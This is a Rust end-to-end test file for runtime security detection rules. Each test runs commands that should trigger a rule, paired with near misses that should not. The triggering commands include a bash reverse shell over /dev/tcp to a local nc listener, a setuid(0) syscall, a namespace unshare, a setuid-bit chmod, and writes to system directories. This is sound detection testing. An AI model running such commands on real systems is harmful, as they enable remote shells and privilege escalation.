//! Rules of our own beyond the stock ones, fired by real programs, each with a twin that must not.

use e2e::Identity::{Docker, Root, User};
use e2e::Place::{self, Below, Inside};
use e2e::{Case, act, need_root, skip};

const CONTAINER: &[Place] = &[Inside, Below];

macro_rules! cases {
    ($($name:ident => $case:expr;)*) => {
        $(#[test]
        fn $name() {
            const CASE: Case = $case;
            need_root!();
            let Some(file) = e2e::default_rules() else {
                skip!("needs the default rules", || Ok(String::from("rules/default.yaml is no file")));
            };
            CASE.check(&file);
        })*
    };
}

cases! {
write_below_binary_directory => Case {
    rule: "Write below binary dir",
    fires: &[
        act("cp", &["cp", "/bin/true", "/usr/local/bin/new"]).at(CONTAINER).by(&[Root, Docker])
            .showing(&[("fd.name", "/usr/local/bin/new"), ("proc.cmdline", "cp *")]),
        act("mv", &["sh", "-c", "cp /bin/true %W/x; mv %W/x /usr/bin/x; :"]).by(&[Root, Docker]),
        act("ln", &["ln", "-s", "/bin/true", "/usr/sbin/y"]).by(&[Root, Docker]),
    ],
    near_misses: &[
        act("cp", &["cp", "/bin/true", "%W/new"]).at(CONTAINER),
        act("cat", &["cat", "/usr/local/bin/tollgate"]).by(&[User]).at(&[Below]),
        act("cp", &["sh", "-c", "cp /bin/true /usr/local/bin/new; :"]).by(&[User]),
    ],
};

change_namespace => Case {
    rule: "Change thread namespace",
    fires: &[act("perl", &["perl", "-e", "syscall(272, 0x10000000)"]).at(CONTAINER)
        .showing(&[("evt.type", "unshare"), ("proc.cmdline", "perl -e *")])],
    // CLONE_FILES stops sharing descriptors, which is no namespace.
    near_misses: &[act("perl", &["perl", "-e", "syscall(272, 0x400) == 0 or die"])],
};

become_root => Case {
    rule: "Become root without a login program",
    fires: &[act("perl", &["perl", "-e", "syscall(105, 0)"]).at(CONTAINER).by(&[User])
        .showing(&[("user.uid", "1000"), ("evt.type", "setuid")])],
    near_misses: &[
        act("perl", &["perl", "-e", "syscall(105, 1000) == 0 or die"]).at(CONTAINER).by(&[User]),
        act("perl", &["perl", "-e", "syscall(105, 0) == 0 or die"]).at(CONTAINER).by(&[Root, Docker]),
    ],
};

set_user_id_bit => Case {
    rule: "Set Setuid or Setgid bit",
    fires: &[act("chmod", &["sh", "-c", "cp /bin/true %W/x; chmod u+s %W/x; :"]).at(CONTAINER)],
    near_misses: &[act("chmod", &["sh", "-c", "cp /bin/true %W/x; chmod u+x %W/x; :"]).at(CONTAINER)],
};

reverse_shell => Case {
    rule: "Reverse shell",
    fires: &[act("bash", &["bash", "-c", "echo exit | nc -l -N 127.0.0.1 4444 & sleep 0.5
        bash -i >& /dev/tcp/127.0.0.1/4444 0>&1
        wait"]).at(CONTAINER)],
    near_misses: &[act("bash", &["bash", "-c", "exec < /etc/hosts > %W/out 2>&1; cat; :"]).at(CONTAINER)],
};

write_below_etc => Case {
    rule: "Write below etc",
    fires: &[act("cp", &["cp", "/etc/hosts", "/etc/new"]).at(CONTAINER).by(&[Root, Docker])
        .showing(&[("fd.name", "/etc/new")])],
    near_misses: &[act("cp", &["cp", "/etc/hosts", "%W/etc"]).at(CONTAINER)],
};
}
